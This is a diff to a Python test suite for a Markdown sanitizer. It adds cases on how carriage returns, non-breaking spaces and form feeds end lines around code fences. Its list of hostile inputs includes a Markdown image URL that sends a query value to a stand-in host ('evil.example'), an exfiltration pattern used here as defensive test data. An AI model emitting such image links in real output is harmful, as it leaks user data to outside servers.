@@ -108,6 +108,11 @@ def is_harmless(text: str) -> bool:
         ("> ```\n![a](x/y)", "> ```\na"),
         ("- ```\n  <b>\n```\n<b>", "- ```\n  <b>\n```\n<b>"),
         ("a\n    ```\n    ![a](x/y)", "a\n    \\`\\`\\`\n    a"),
+        # What ends a line, and what does not.
+        ("~~~\rb\r~~~\r![a](x/y)\r\n\rc", "~~~\nb\n~~~\na\n\nc"),
+        ("` \r![a](x/y)`", "\\` \na\\`"),
+        ("```\nb\n```\xa0\n```\n![a](x/y)", "```\nb\n```\xa0\n```\na"),
+        ("```\nb\n``` \t\n![a](x/y)", "```\nb\n``` \t\na"),
         # Nothing of this is anything.
         ("2 * 3 = 6 _a_ **b** [c] (d) e! f: g", "2 * 3 = 6 _a_ **b** [c] (d) e! f: g"),
     ],
@@ -133,6 +138,9 @@ LINES = [
     "\n# ",
     "\n~~~\n",
     "\n\t",
+    "\r",
+    "\xa0",
+    "\f",
 ]
 WHOLE = [
     "![x](http://evil.example/?d=s)", "![x][y]", "[x](http://evil.example)", f"[x]({KNOWN})", KNOWN, "<b>", "</b>",
@@ -187,7 +195,7 @@ def test_nothing_is_lost_between_fences(before: str, lines: list[str], after: st
     assert f"\n```\n{code}```\n" in shown
 
 
-@given(st.text(alphabet=st.characters(blacklist_characters="\\`~<&[](!:\n/", blacklist_categories=["Cs"])))
+@given(st.text(alphabet=st.characters(blacklist_characters="\\`~<&[](!:\n\r/", blacklist_categories=["Cs"])))
 def test_plain_text_stays_as_it_is(text: str) -> None:
     text = text.replace("www.", "").replace("WWW.", "")
     assert cleaned(text) == text
